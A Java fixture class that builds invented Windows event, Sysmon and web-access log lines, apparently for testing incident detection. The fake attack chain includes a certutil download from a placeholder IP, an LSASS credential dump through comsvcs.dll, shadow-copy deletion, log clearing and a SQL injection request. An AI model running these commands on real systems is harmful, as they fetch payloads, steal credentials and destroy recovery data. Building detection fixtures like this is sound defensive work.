package az.qalxan.monitoring.incident;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Locale;

/** Invented lines of logs. */
final class DemoLines {

    private static final DateTimeFormatter SYSMON =
            DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss.SSS", Locale.ROOT)
                    .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter ACCESS =
            DateTimeFormatter.ofPattern("dd/MMM/uuuu:HH:mm:ss Z", Locale.ENGLISH)
                    .withZone(ZoneOffset.UTC);
    private static final String ZONE = ".numune.example";

    /** A script that runs every day, as in JSON. */
    static final String TASK = "schtasks /create /tn yenile /tr C:\\\\ops\\\\up.ps1 /sc daily";

    private DemoLines() {}

    static String failedSignIn(Instant at, String host, String user) {
        return """
        {"Channel":"Security","EventID":4625,"TimeCreated":"%s","Computer":"%s",\
        "TargetUserName":"%s","IpAddress":"10.4.2.9"}
        """
                .formatted(at, host + ZONE, user);
    }

    static String remoteService(Instant at, String host) {
        return """
        {"Channel":"System","EventID":7045,"TimeCreated":"%s","Computer":"%s",\
        "ServiceName":"PSEXESVC","ImagePath":"C:\\\\Windows\\\\PSEXESVC.exe"}
        """
                .formatted(at, host + ZONE);
    }

    static String logCleared(Instant at, String host, String user) {
        return """
        {"Channel":"Security","EventID":1102,"TimeCreated":"%s","Computer":"%s",\
        "SubjectUserName":"%s"}
        """
                .formatted(at, host + ZONE, user);
    }

    /** Who sits where. */
    record Seat(String host, String user) {}

    /** A process that was started; the command is written as in JSON. */
    static String process(Instant at, Seat seat, String image, String command) {
        return started(at, seat, new Program("explorer.exe", image, command));
    }

    private record Program(String parent, String image, String command) {}

    private static String started(Instant at, Seat seat, Program program) {
        return """
        {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"%s",\
        "Computer":"%s","User":"%s","ParentImage":"C:\\\\Windows\\\\%s",\
        "Image":"C:\\\\Windows\\\\System32\\\\%s","CommandLine":"%s"}
        """
                .formatted(
                        SYSMON.format(at),
                        seat.host() + ZONE,
                        seat.user(),
                        program.parent(),
                        program.image(),
                        program.command());
    }

    /** A letter's document starts a command interpreter, which fetches a program. */
    static String opened(Instant at, Seat seat) {
        return started(
                        at,
                        seat,
                        new Program("WINWORD.EXE", "powershell.exe", "powershell -enc SQBFAFgA"))
                + process(
                        at.plusSeconds(95),
                        seat,
                        "certutil.exe",
                        "certutil -urlcache -f http://203.0.113.9/yenile.exe yenile.exe")
                + process(
                        at.plusSeconds(240),
                        seat,
                        "schtasks.exe",
                        "schtasks /create /tn y /tr C:\\\\Users\\\\Public\\\\y.vbs /sc onlogon");
    }

    /** Passwords are taken, another machine is entered, traces and copies are removed. */
    static String spread(Instant at, Seat seat, String target) {
        return process(
                        at,
                        seat,
                        "rundll32.exe",
                        "rundll32 C:\\\\Windows\\\\comsvcs.dll, MiniDump 624 C:\\\\t.dmp full")
                + remoteService(at.plusSeconds(700), target)
                + process(
                        at.plusSeconds(760),
                        new Seat(target, seat.user()),
                        "vssadmin.exe",
                        "vssadmin delete shadows /all /quiet")
                + logCleared(at.plusSeconds(1500), target, seat.user());
    }

    /** A request for tables that are nobody's business. */
    static String request(Instant at, String address, int page) {
        return """
        %s - - [%s] "GET /axtar?s=%d+union+select+1,2,3 HTTP/1.1" 200 512 "-" "numune/1.0"
        """
                .formatted(address, ACCESS.format(at), page);
    }
}
